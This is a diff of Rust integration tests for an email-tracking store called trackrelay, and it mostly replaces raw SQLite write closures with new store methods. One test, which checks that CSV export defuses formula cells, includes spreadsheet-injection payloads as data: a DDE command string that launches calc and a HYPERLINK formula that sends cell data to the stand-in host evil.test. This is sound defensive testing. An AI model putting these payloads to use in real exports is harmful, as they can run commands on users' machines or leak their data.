@@ -7,9 +7,8 @@ use std::path::Path;
 use std::process::Command;
 use trackrelay::config::Config;
 use trackrelay::events::{EventType, NewEvent};
-use trackrelay::store::sqlite::emails::NewEmail;
+use trackrelay::store::queue::{Attempt, NewEmail, Outcome};
 use trackrelay::store::sqlite::events::EventFilter;
-use trackrelay::store::sqlite::queue::{Attempt, Outcome};
 use trackrelay::store::sqlite::sql::Where;
 use trackrelay::store::{self, Durability, Store, StoreOptions};
 
@@ -189,18 +188,8 @@ async fn stats_from_rollups_equal_a_recount_for_any_window() {
         let domain = domains[i % 2];
         let n = 1 + rng.next(3) as usize;
         let e = email(&id, domain, created, n, "hello");
-        store
-            .write(Durability::Full, move |tx| {
-                store::sqlite::emails::insert(tx, &e)
-            })
-            .await
-            .unwrap();
-        let claimed = store
-            .write(Durability::Normal, move |tx| {
-                store::sqlite::queue::claim_due(tx, created + 1, 60_000, 100)
-            })
-            .await
-            .unwrap();
+        store.accept(e).await.unwrap();
+        let claimed = store.claim_due(created + 1, 60_000, 100).await.unwrap();
         assert_eq!(claimed.len(), n);
         let mut seen = vec![Seen::default(); n];
         let mut attempts = Vec::new();
@@ -266,11 +255,9 @@ async fn stats_from_rollups_equal_a_recount_for_any_window() {
                 events.push(ev);
             }
         }
+        store.record(attempts, &Default::default()).await.unwrap();
         store
             .write(Durability::Normal, move |tx| {
-                for a in &attempts {
-                    store::sqlite::queue::record(tx, a)?;
-                }
                 for ev in &events {
                     store::sqlite::events::insert(tx, ev)?;
                 }
@@ -352,12 +339,7 @@ async fn csv_export_defuses_formula_cells() {
     let (store, _, config_path) = open(dir.path());
     let id = uuid::Uuid::now_v7().to_string();
     let e = email(&id, "example.com", T0, 1, "+cmd|' /C calc'!A0");
-    store
-        .write(Durability::Full, move |tx| {
-            store::sqlite::emails::insert(tx, &e)
-        })
-        .await
-        .unwrap();
+    store.accept(e).await.unwrap();
     let hostile = [
         "=HYPERLINK(\"http://evil.test/?\"&A1,\"click\")",
         "-2+3",
@@ -453,12 +435,7 @@ async fn events_cli_pages_one_email_and_stops_at_a_closed_pipe() {
     );
     for id in [&a, &b] {
         let e = email(id, "example.com", T0, 1, "s");
-        store
-            .write(Durability::Full, move |tx| {
-                store::sqlite::emails::insert(tx, &e)
-            })
-            .await
-            .unwrap();
+        store.accept(e).await.unwrap();
     }
     let id = a.clone();
     store
